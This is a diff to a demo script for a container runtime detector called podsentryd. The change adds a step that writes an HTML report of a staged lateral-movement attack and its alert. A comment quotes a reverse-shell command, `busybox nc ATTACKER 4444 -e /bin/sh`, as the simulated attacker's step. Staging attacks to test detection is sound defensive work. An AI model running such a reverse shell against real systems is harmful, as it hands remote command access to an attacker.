@@ -9,7 +9,8 @@
 # `busybox nc ATTACKER 4444 -e /bin/sh`, and through that shell the
 # attacker reads elastic:9200. podsentryd sees both halves in the kernel
 # and writes one critical lateral-movement alert with the whole chain.
-# Prints each pod's log, the alert, where the files are; leaves nothing
+# Prints each pod's log, the alert, where the files are, and writes the
+# HTML report of the story (podsentry report) and prints its path; leaves nothing
 # running or configured behind (the output files stay in $DEMO_OUT).
 set -u
 ROOT=$(cd "$(dirname "$0")/.." && pwd)
@@ -151,3 +152,7 @@ echo "Files: all records $T/events.json, alerts $T/alerts.json,"
 echo "       pod logs $T/logs/demo/{web,attacker,elastic}.log, daemon log $T/podsentryd.log,"
 echo "       learned baseline and open alerts $T/detect-state.json"
 [ -n "$ok" ] || { echo "demo: no lateral-movement alert" >&2; exit 1; }
+echo
+"$B/podsentry-report" --file "$T/events.json" -o "$T/report.html" ||
+	{ echo "demo: the report was not written" >&2; exit 1; }
+echo "Report (service map, the alert's chain and timeline): $T/report.html"
